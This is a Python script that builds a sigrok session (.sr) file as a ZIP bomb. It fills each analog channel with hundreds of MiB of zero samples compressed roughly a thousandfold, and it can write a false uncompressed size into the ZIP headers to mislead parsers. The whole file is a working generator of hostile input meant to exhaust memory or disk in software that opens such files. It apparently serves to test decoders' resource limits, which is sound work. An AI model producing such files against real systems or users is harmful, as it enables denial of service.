#!/usr/bin/python3
"""Writes a sigrok session (.sr) that is a ZIP bomb: every analog channel holds MIB MiB of
float32 zeros (valid samples, sin = cos = 0), deflated to about 1/1000 of that.

    zip_bomb.py OUT.sr --mib 512 [--channels 2] [--declare-mib D]

--declare-mib writes D MiB as each data member's uncompressed size (local header and central
directory) while the deflate stream still inflates to MIB MiB: a header that lies. The CRC is
the real data's. Fast: a 1 MiB block of zeros is compressed once, ended with a full flush
(which resets the compressor's history, so every further block compresses to the same
bytes), and that piece is repeated; the stream is then ended with a final empty block.
"""
import argparse
import struct
import zlib

ZEROS = bytes(1 << 20)


def deflated_zeros(mib):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(ZEROS) + c.flush(zlib.Z_FULL_FLUSH)
    piece = c.compress(ZEROS) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(ZEROS) + c.flush(zlib.Z_FULL_FLUSH)
    assert piece == again, "zlib's output after a full flush is not periodic here"
    tail = c.flush(zlib.Z_FINISH)
    stream = first + piece * (mib - 1) + tail
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(ZEROS, crc)
    # the whole stream decompresses to exactly MIB MiB (checked in bounded pieces)
    d, n = zlib.decompressobj(-15), 0
    for i in range(0, len(stream), 1 << 16):
        n += len(d.decompress(stream[i:i + (1 << 16)]))
    n += len(d.flush())
    assert n == mib << 20 and d.eof, (n, mib)
    return stream, crc


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("out")
    ap.add_argument("--mib", type=int, required=True)
    ap.add_argument("--channels", type=int, default=2)
    ap.add_argument("--declare-mib", type=int)
    a = ap.parse_args()
    names = ["sin", "cos", "theta_true", "omega_true", "index"][:a.channels]
    meta = ("[global]\nsigrok version=0.5.2\n\n[device 1]\nsamplerate=1 MHz\ntotal analog=%d\n" % len(names)
            + "".join("analog%d=%s\n" % (k + 1, n) for k, n in enumerate(names))).encode()
    stream, crc = deflated_zeros(a.mib)
    declared = (a.declare_mib if a.declare_mib is not None else a.mib) << 20
    assert declared < 1 << 32, "no ZIP64 here"
    members = [("version", b"2", None), ("metadata", meta, None)]
    members += [("analog-1-%d-1" % (k + 1), stream, (crc, declared)) for k in range(len(names))]
    out, central = bytearray(), bytearray()
    for name, data, bomb in members:
        nb = name.encode()
        if bomb:
            crc_, usize, method, payload = bomb[0], bomb[1], 8, data
        else:
            crc_, usize, method, payload = zlib.crc32(data), len(data), 0, data
        head = struct.pack("<HHHHHIIIHH", 20, 0, method, 0, 0x21, crc_, len(payload), usize, len(nb), 0)
        central += struct.pack("<I", 0x02014B50) + struct.pack("<H", 20) + head + struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + nb
        out += struct.pack("<I", 0x04034B50) + head + nb + payload
    cd_at = len(out)
    out += central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), cd_at, 0)
    with open(a.out, "wb") as f:
        f.write(out)


if __name__ == "__main__":
    main()
